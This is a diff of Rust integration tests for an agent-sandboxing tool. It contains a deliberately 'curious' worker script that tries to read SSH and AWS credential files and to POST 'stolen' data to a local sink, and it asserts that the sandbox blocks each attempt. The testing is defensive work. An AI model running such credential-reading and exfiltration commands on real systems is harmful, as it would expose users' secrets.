@@ -66,7 +66,7 @@ fn curious_worker(sink: u16) -> String {
         r#"#!/bin/sh
 cat > /dev/null
 {{
-  cat "$HOME/.ssh/id_ed25519" 2>&1 && echo "key: READ" || echo "key: refused"
+  cat "$HOME/.ssh/id_ed25519" >/dev/null 2>&1 && echo "key: READ" || echo "key: refused"
   cat "$HOME/.aws/credentials" >/dev/null 2>&1 && echo "aws: READ" || echo "aws: refused"
   curl -sS -f -m 10 -X POST -d key=stolen http://127.0.0.1:{sink}/steal >/dev/null 2>&1 && echo "post: SENT" || echo "post: refused"
   curl -sS -f -m 10 --noproxy '*' -X POST -d key=direct http://127.0.0.1:{sink}/direct >/dev/null 2>&1 && echo "direct: SENT" || echo "direct: refused"
@@ -163,6 +163,7 @@ max_rounds = 1
 "#;
     let (temp, root) = repo(&[("plan.toml", &plan), ("roles/1.sh", worker), ("roles/reviewer.sh", APPROVING_REVIEWER)], check);
     let home = home_with_secrets(temp.path());
+    let start = git(&root, &["rev-parse", "main"]);
     let output = breeze()
         .current_dir(&root)
         .env("HOME", &home)
@@ -177,7 +178,7 @@ max_rounds = 1
     assert!(logs.contains("token-var=none aws-var=none path-kept=yes"), "{logs}");
     assert!(logs.contains("Permission denied"), "{logs}");
     assert!(!logs.contains("MOCKTOKEN5678") && !logs.contains("MOCKENGINE"), "{logs}");
-    assert!(git(&root, &["log", "--format=%s", "main"]).lines().count() == 1, "nothing landed");
+    assert_eq!(git(&root, &["rev-parse", "main"]), start, "nothing landed");
 }
 
 /// A wheel of `tinypkg` 0.1 (a zip the test writes with Python's zipfile).
@@ -216,18 +217,26 @@ fn a_setup_installs_from_an_allow_listed_package_mirror_and_not_from_another() {
     while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
         std::thread::sleep(std::time::Duration::from_millis(50));
     }
-    let worker = r#"#!/bin/sh
+    let python = std::process::Command::new("python3")
+        .args(["-c", "import sys; print(sys.executable)"])
+        .output()
+        .unwrap();
+    // The interpreter itself: pyenv's shim would rehash its shims, a folder setup may not write.
+    let python = String::from_utf8_lossy(&python.stdout).trim().to_string();
+    let worker = format!(
+        r#"#!/bin/sh
 cat > /dev/null
-PYTHONPATH=vendor python3 -c 'import tinypkg; print(tinypkg.VALUE)' > a.txt
-printf '{"schema_version":"worker-report.v1","status":"completed","summary":"ok"}' > "$BREEZE_OUTPUT"
-"#;
+PYTHONPATH=vendor {python} -c 'import tinypkg; print(tinypkg.VALUE)' > a.txt
+printf '{{"schema_version":"worker-report.v1","status":"completed","summary":"ok"}}' > "$BREEZE_OUTPUT"
+"#
+    );
     let setup = format!(
-        "[worktree]\nsetup = [\"sh\", \"-c\", \"python3 -m pip install -q --disable-pip-version-check --no-cache-dir --index-url http://127.0.0.1:{port}/simple --target vendor tinypkg && ! curl -sS -f -m 5 https://pypi.org/simple/ >/dev/null 2>&1\"]\n"
+        "[worktree]\nsetup = [\"sh\", \"-c\", \"{python} -m pip install -q --disable-pip-version-check --no-cache-dir --index-url http://127.0.0.1:{port}/simple --target vendor tinypkg && ! curl -sS -f -m 5 https://pypi.org/simple/ >/dev/null 2>&1\"]\n"
     );
     let config = format!("network = [\"127.0.0.1:{port}\"]\n{setup}");
     let plan = toml_task("1", "Use the package", &["a.txt"], "");
     let (_temp, root) = repo(
-        &[("plan.toml", &plan), ("roles/1.sh", worker), ("roles/reviewer.sh", APPROVING_REVIEWER), (".gitignore", "vendor/\n")],
+        &[("plan.toml", &plan), ("roles/1.sh", &worker), ("roles/reviewer.sh", APPROVING_REVIEWER), (".gitignore", "vendor/\n")],
         &config,
     );
     let output = breeze().current_dir(&root).args(["run", "plan.toml", "--skip-setup-check"]).output().unwrap();
